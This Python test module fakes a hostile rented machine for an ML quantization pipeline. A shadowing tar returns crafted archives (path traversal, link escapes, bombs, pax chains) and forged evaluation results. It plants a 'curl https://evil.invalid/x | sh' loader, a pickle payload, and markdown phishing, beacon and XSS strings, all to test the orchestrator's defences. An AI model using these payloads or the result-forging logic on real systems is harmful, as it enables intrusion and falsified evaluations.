"""The `evil` fault knob: an instance that answers with crafted archives and forged outputs.

A rented machine is a stranger's computer. With `evil` set, the instance's login wrapper puts
`<root>/evil/bin` first on PATH, where a `tar` shadows the real one: `tar -czf - -C DIR ...` (the
one command the orchestrator uses to bring a directory home, infra/ssh.py `get`) answers with DIR's
real content plus what the modes add; every other tar call (unpacking what we push) is the real
tar. Nothing else changes: the product still talks real SSH to a real sshd.

Modes (`evil: MODE` or a list of them; `evil_target: /abs/dir` is what the crafted members aim at,
default /tmp/qat-evil-target):

| mode | what the archive holds besides DIR's content |
|---|---|
| `abs_path` | a file named `<target>/pwned-abs` (absolute) |
| `dotdot` | a file named `../../../...<target>/pwned-dotdot` |
| `symlink` | `escape -> <target>`, then a file `escape/pwned-symlink` written through it |
| `hardlink` | `hard`, a hard link to `<target>` |
| `device` | `null-device`, a character device (1, 3) |
| `oversized` | `huge.bin` declaring 201 GB (over infra/archive.py's 200 GB cap; no data follows) |
| `too_many` | 200 001 directory members (over the 200 000 member cap) |
| `bad_name` | a file named `evil name\\n\\x1b[31m.txt` (a space, a newline, an escape sequence) |
| `deep_tree` | a file `d/d/.../pwned-deep`, 1100 levels deep |
| `pax_chain` | 2000 pax headers in a row before a file `after-chain.txt` |
| `bomb` | `bomb.bin`: 48 MiB of zeros (about 200 KB compressed) |
| `ignore_exclude` | the names its `--exclude=./NAME` options ask to leave out (a step's bulk outputs) |
| `deep_json` | in an `evaluate` directory: `result.json` nested 100 000 levels deep |
| `forge_result` | in an `evaluate` directory: `result.json` claims a passing gate with WERs of 1.0, and the quantized variant's `utterances_qat_int*.csv` hypotheses are replaced by junk (so the transcripts fail the gate) |
| `plant_py` | in a `convert` directory: `evil.py` and `weights.pkl` in every `qat_*` export folder |
| `forge_refs` | in an `evaluate` directory: every `utterances_*.csv` reference rewritten to the quantized variant's hypothesis (its WER 0), and `result.json` claims the figures those transcripts give (its config hash kept: what "already done" read) |
| `forge_subset` | the same CSVs cut to the utterances where the quantized variant did no worse than the others, claims to match |
| `unknown_ids` | that subset padded back to the full count with copies under ids that are not in the test split, claims to match |
| `duplicates` | that subset padded back with the same good rows under their own ids again, claims to match |
| `md_inject` | `train/result.json` gains metric keys, `bench/result.json` provider, skipped, placement strings and variant names carrying markdown: a fake security notice with an install link, an image beacon, HTML, a phishing link |

Used as a program (`python evil.py tar ARGS...`, what `<root>/evil/bin/tar` runs) it reads the modes
from `<root>/evil/modes.json`.
"""
from __future__ import annotations

import csv
import gzip
import io
import json
import os
import pickle
import shlex
import shutil
import sys
import tarfile
import time
from pathlib import Path
from typing import Any, Iterable, Optional

ARCHIVE_MODES = ("abs_path", "dotdot", "symlink", "hardlink", "device", "oversized", "too_many", "bad_name",
                 "deep_tree", "pax_chain", "bomb")
FORGERIES = ("forge_refs", "forge_subset", "unknown_ids", "duplicates")
OUTPUT_MODES = ("forge_result", "plant_py", "ignore_exclude", "deep_json", *FORGERIES, "md_inject")
MODES = ARCHIVE_MODES + OUTPUT_MODES
DEFAULT_TARGET = "/tmp/qat-evil-target"
REAL_TAR = next((t for t in ("/usr/bin/tar", "/bin/tar") if os.path.exists(t)), "tar")
OVERSIZED = 201 * 1000**3
TOO_MANY = 200_001
DEEP_TREE = 1100
PAX_CHAIN = 2000
BOMB = 48 * 1024 * 1024
DEEP_JSON = 100_000
PLANTED_PY = "import os\nos.system('curl -s https://evil.invalid/x | sh')\n"
NOTICE = "**SECURITY NOTICE**: run [pip install qat-security-patch](https://evil.invalid/p) now"
BEACON = "![x](https://evil.invalid/beacon.png)"
PHISH = "[sign in to Hugging Face](https://evil.invalid/login)"
HTML = "<img src=https://evil.invalid/i.png onerror=alert(1)>"


def modes(value: Any) -> list[str]:
    """The knob's value as a list of known modes (None/False/"" = none); ValueError otherwise."""
    if value in (None, False, "", []):
        return []
    items = [value] if isinstance(value, str) else value
    if not isinstance(items, list) or not all(isinstance(m, str) for m in items):
        raise ValueError(f"evil must be a mode or a list of modes out of {list(MODES)}")
    unknown = [m for m in items if m not in MODES]
    if unknown:
        raise ValueError(f"unknown evil mode(s) {unknown}; known: {list(MODES)}")
    return list(items)


def install(root: Path, value: Any, target: Optional[str]) -> None:
    """Make `<root>/evil/` match the knob: bin/tar + modes.json when set, nothing when not."""
    d = Path(root) / "evil"
    chosen = modes(value)
    if not chosen:
        if d.exists():
            shutil.rmtree(d, ignore_errors=True)
        return
    (d / "bin").mkdir(parents=True, exist_ok=True)
    conf = json.dumps({"modes": chosen, "target": target or DEFAULT_TARGET})
    tmp = d / ".modes.json.tmp"
    tmp.write_text(conf)
    os.replace(tmp, d / "modes.json")
    script = (f"#!/bin/sh\nexec {shlex.quote(sys.executable)} {shlex.quote(str(Path(__file__).resolve()))} "
              f"tar {shlex.quote(str(d / 'modes.json'))} \"$@\"\n")
    tar = d / "bin" / "tar"
    if not tar.exists() or tar.read_text() != script:
        tmp = d / "bin" / ".tar.tmp"
        tmp.write_text(script)
        tmp.chmod(0o755)
        os.replace(tmp, tar)


# ---------------------------------------------------------------- the shadowing tar, on the instance

def _info(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0, **kw: Any) -> tarfile.TarInfo:
    ti = tarfile.TarInfo(name)
    ti.type, ti.size, ti.mode, ti.mtime = kind, size, 0o644 if kind != tarfile.DIRTYPE else 0o755, int(time.time())
    for k, v in kw.items():
        setattr(ti, k, v)
    return ti


def _add_bytes(tar: tarfile.TarFile, name: str, data: bytes) -> None:
    tar.addfile(_info(name, size=len(data)), io.BytesIO(data))


def _forged_result(path: Path) -> bytes:
    """evaluate's result.json claiming a pass: every WER 1.0 and a passing gate."""
    try:
        result = json.loads(path.read_text())
    except (OSError, ValueError):
        result = {"step": "evaluate", "status": "ok"}
    metrics = result.setdefault("metrics", {})
    wer = metrics.get("wer") if isinstance(metrics.get("wer"), dict) else {}
    metrics["wer"] = {k: 1.0 for k in (wer or {"qat_fp32": 0, "qat_int8": 0, "base_ptq_int8": 0})}
    gate = metrics.get("gate") if isinstance(metrics.get("gate"), dict) else {}
    metrics["gate"] = {**gate, "passed": True, "qat_wer": 1.0, "qat_fp32_wer": 1.0, "ptq_wer": 1.0, "reasons": []}
    return json.dumps(result, indent=2).encode()


def _junk_hypotheses(path: Path) -> bytes:
    """The same CSV with every hypothesis replaced by junk words (its transcripts now fail)."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    out = io.StringIO(newline="")
    w = csv.writer(out, lineterminator="\n")
    for i, row in enumerate(rows):
        if i and len(row) > 2:
            row[2] = " ".join(["faux"] * 40)
        w.writerow(row)
    return out.getvalue().encode()


class _Zeros:
    """size zero bytes, read in chunks (tarfile.addfile copies a member's data with read(n))."""

    def __init__(self, size: int):
        self.left = size

    def read(self, n: int = -1) -> bytes:
        n = self.left if n is None or n < 0 else min(n, self.left)
        self.left -= n
        return bytes(n)


def _raw(tar: tarfile.TarFile, data: bytes) -> None:
    tar.fileobj.write(data)
    tar.offset += len(data)


def _scorer():
    """contract/'s normalizer and error counts (the repository this file lives in): claims that match."""
    root = str(Path(__file__).resolve().parents[2])
    if root not in sys.path:
        sys.path.insert(0, root)
    from contract.normalize import normalize_french
    from contract.quality import corpus_rate, gate_rule, utterance_errors

    def errors(ref: str, hyp: str) -> tuple[int, int, int, int]:
        return utterance_errors(normalize_french(ref), normalize_french(hyp))
    return errors, corpus_rate, gate_rule, normalize_french


def forge_evaluate(src: Path, mode: str) -> dict[str, bytes]:
    """{file name: forged bytes} for an evaluate directory: the per-utterance CSVs forged by `mode`
    (FORGERIES) and a result.json whose claims match them, so only a check against the test set
    home holds can tell."""
    errors, rate, gate_rule, norm = _scorer()
    csvs = {p.name[len("utterances_"):-len(".csv")]: list(csv.reader(io.StringIO(p.read_text(encoding="utf-8"), newline="")))
            for p in sorted(src.glob("utterances_*.csv"))}
    quantized = next((v for v in csvs if v.startswith("qat_int")), None)
    if not csvs or quantized is None:
        return {}
    header = next(iter(csvs.values()))[0]
    rows = {v: r[1:] for v, r in csvs.items()}
    if mode == "forge_refs":  # every variant's references become the quantized model's output
        said = {r[0]: r[2] for r in rows[quantized]}
        rows = {v: [[r[0], said.get(r[0], r[1]), *r[2:]] for r in rs] for v, rs in rows.items()}
    else:
        errs = {v: {r[0]: errors(r[1], r[2])[0] for r in rs} for v, rs in rows.items()}
        others = [v for v in rows if v != quantized]
        good = [r[0] for r in rows[quantized] if all(errs[quantized][r[0]] <= errs[o].get(r[0], 0) for o in others)]
        good = good or [min(rows[quantized], key=lambda r: errs[quantized][r[0]])[0]]
        n = len(rows[quantized])
        for v, rs in rows.items():
            kept = [r for r in rs if r[0] in good]
            pad = [list(kept[i % len(kept)]) for i in range(n - len(kept))] if mode != "forge_subset" else []
            for i, r in enumerate(pad):
                if mode == "unknown_ids":
                    r[0] = f"easy-{i:04d}"
            rows[v] = kept + pad
    out: dict[str, bytes] = {}
    wer, cer, per_utterance = {}, {}, {}
    for v, rs in rows.items():
        counts = [errors(r[1], r[2]) for r in rs]
        per_utterance[v] = ([c[0] for c in counts], [c[1] for c in counts])
        for r, c in zip(rs, counts):
            r[3:9] = [norm(r[1]), norm(r[2]), *map(str, c)]
        wer[v] = round(rate(sum(c[0] for c in counts), sum(c[1] for c in counts)), 3)
        cer[v] = round(rate(sum(c[2] for c in counts), sum(c[3] for c in counts)), 3)
        buf = io.StringIO(newline="")
        w = csv.writer(buf)
        w.writerows([header, *rs])
        out[f"utterances_{v}.csv"] = buf.getvalue().encode()
    try:
        result = json.loads((src / "result.json").read_text())
    except (OSError, ValueError):
        result = {"step": "evaluate", "status": "ok"}
    metrics = result.setdefault("metrics", {})
    old_gate = metrics.get("gate") if isinstance(metrics.get("gate"), dict) else {}
    metrics.update(wer={**(metrics.get("wer") or {}), **wer}, cer={**(metrics.get("cer") or {}), **cer},
                   n_utterances=len(rows[quantized]),
                   gate=gate_rule(quantized[len("qat_"):], per_utterance,
                                  max_wer_degradation=old_gate.get("max_wer_degradation", 1.0),
                                  references=old_gate.get("references") or ("qat_fp32", "base_fp32")))
    out["result.json"] = json.dumps(result, indent=2).encode()
    return out


def inject_markdown(src: Path) -> dict[str, bytes]:
    """{file name: bytes}: train's or bench's result.json carrying markdown in keys and strings."""
    try:
        result = json.loads((src / "result.json").read_text())
    except (OSError, ValueError):
        return {}
    metrics = result.setdefault("metrics", {})
    if src.name == "train":
        metrics.update({NOTICE: 1.0, BEACON: 2.0, HTML: 3.0})
    elif src.name == "bench":
        devices = metrics.setdefault("devices", {})
        cpu = devices.setdefault("cpu", {})
        cpu.setdefault("latency_s", {}).update({PHISH: 0.01, "qat_fp32": 1.0})
        cpu.setdefault("provider", {}).update({"qat_fp32": PHISH, "qat_int8": NOTICE})
        cuda = devices.setdefault("cuda", {"latency_s": {"qat_fp16": 1.0, "qat_int8": 0.5}})
        cuda.setdefault("provider", {}).update({"qat_int8": HTML})
        metrics["skipped"] = {"rocm": f"{NOTICE} {BEACON}", BEACON: PHISH}
        metrics["placement"] = {"qat_int8": {"encoder": {"error": f"{PHISH} {HTML}"},
                                             "decoder": {PHISH: 3, "cpu_ops": {BEACON: 2}}},
                                PHISH: {"encoder": {"error": NOTICE}}}
    else:
        return {}
    return {"result.json": json.dumps(result, indent=2).encode()}


def _honest(tar: tarfile.TarFile, src: Path, exclude: Iterable[str], chosen: list[str]) -> None:
    """src's content as `tar -C src .` would send it (links stay links), with the output modes applied."""
    tar.addfile(_info("./", tarfile.DIRTYPE))  # names as `tar -C src .` writes them: ./NAME
    is_eval, is_convert = src.name == "evaluate", src.name == "convert"
    forged: dict[str, bytes] = {}
    for mode in chosen:
        if mode in FORGERIES and is_eval:
            forged = forge_evaluate(src, mode)
        elif mode == "md_inject":
            forged.update(inject_markdown(src))
    for name in sorted(set(os.listdir(src)) - set(() if "ignore_exclude" in chosen else exclude)):
        path = src / name
        if "deep_json" in chosen and is_eval and name == "result.json":
            _add_bytes(tar, f"./{name}", ("[" * DEEP_JSON + "]" * DEEP_JSON).encode())
        elif name in forged:
            _add_bytes(tar, f"./{name}", forged[name])
        elif "forge_result" in chosen and is_eval and name == "result.json":
            _add_bytes(tar, f"./{name}", _forged_result(path))
        elif "forge_result" in chosen and is_eval and name.startswith("utterances_qat_int") and name.endswith(".csv"):
            _add_bytes(tar, f"./{name}", _junk_hypotheses(path))
        else:
            tar.add(str(path), arcname=f"./{name}", recursive=True)
        if "plant_py" in chosen and is_convert and name.startswith("qat_") and path.is_dir():
            _add_bytes(tar, f"./{name}/evil.py", PLANTED_PY.encode())
            _add_bytes(tar, f"./{name}/weights.pkl", pickle.dumps({"payload": "os.system"}))


def _crafted(tar: tarfile.TarFile, mode: str, target: str) -> None:
    if mode == "abs_path":
        _add_bytes(tar, f"{target}/pwned-abs", b"written outside\n")
    elif mode == "dotdot":
        _add_bytes(tar, "../" * 40 + f"{target.lstrip('/')}/pwned-dotdot", b"written outside\n")
    elif mode == "symlink":
        tar.addfile(_info("escape", tarfile.SYMTYPE, linkname=target))
        _add_bytes(tar, "escape/pwned-symlink", b"written through a link\n")
    elif mode == "hardlink":
        tar.addfile(_info("hard", tarfile.LNKTYPE, linkname=target))
    elif mode == "device":
        tar.addfile(_info("null-device", tarfile.CHRTYPE, devmajor=1, devminor=3))
    elif mode == "oversized":
        tar.addfile(_info("huge.bin", size=OVERSIZED))  # the header only: the data never follows
    elif mode == "too_many":  # one directory header, repeated (written raw: addfile per member is slow)
        block = _info("d", tarfile.DIRTYPE).tobuf(tar.format, tar.encoding, tar.errors)
        for done in range(0, TOO_MANY, 10_000):
            n = min(10_000, TOO_MANY - done)
            tar.fileobj.write(block * n)
            tar.offset += len(block) * n
    elif mode == "bad_name":
        _add_bytes(tar, "evil name\n\x1b[31m.txt", b"crafted name\n")
    elif mode == "deep_tree":
        _add_bytes(tar, "d/" * DEEP_TREE + "pwned-deep", b"deep\n")
    elif mode == "pax_chain":  # each pax header is followed by another: tarfile recurses once per header
        payload = b"20 comment=abcdefgh\n"
        header = _info("././@PaxHeader", tarfile.XHDTYPE, size=len(payload)).tobuf(tarfile.USTAR_FORMAT)
        _raw(tar, (header + payload.ljust(tarfile.BLOCKSIZE, b"\0")) * PAX_CHAIN)
        _add_bytes(tar, "after-chain.txt", b"after the chain\n")
    elif mode == "bomb":
        tar.addfile(_info("bomb.bin", size=BOMB), _Zeros(BOMB))


def tar_main(conf_path: str, args: list[str]) -> int:
    """`tar -czf - -C DIR [--anchored] [--exclude=./NAME]... .` answers a crafted archive on stdout;
    anything else runs the real tar."""
    if not (len(args) >= 4 and args[0] == "-czf" and args[1] == "-" and "-C" in args and args[-1] == "."):
        os.execv(REAL_TAR, [REAL_TAR, *args])
    conf = json.loads(Path(conf_path).read_text())
    chosen, target = modes(conf.get("modes")), conf.get("target") or DEFAULT_TARGET
    src = Path(args[args.index("-C") + 1])
    exclude = [a[len("--exclude=./"):] for a in args if a.startswith("--exclude=./")]
    out = sys.stdout.buffer
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=1) as gz:
        # GNU format: a crafted size over 8 GiB goes in base-256, as GNU tar writes it
        with tarfile.open(fileobj=gz, mode="w|", format=tarfile.GNU_FORMAT) as tar:
            _honest(tar, src, exclude, chosen)
            for mode in chosen:
                if mode in ARCHIVE_MODES:
                    _crafted(tar, mode, target)
    out.flush()
    return 0


if __name__ == "__main__":
    if len(sys.argv) >= 3 and sys.argv[1] == "tar":
        sys.exit(tar_main(sys.argv[2], sys.argv[3:]))
    sys.exit("usage: evil.py tar MODES_JSON TAR_ARGS...")
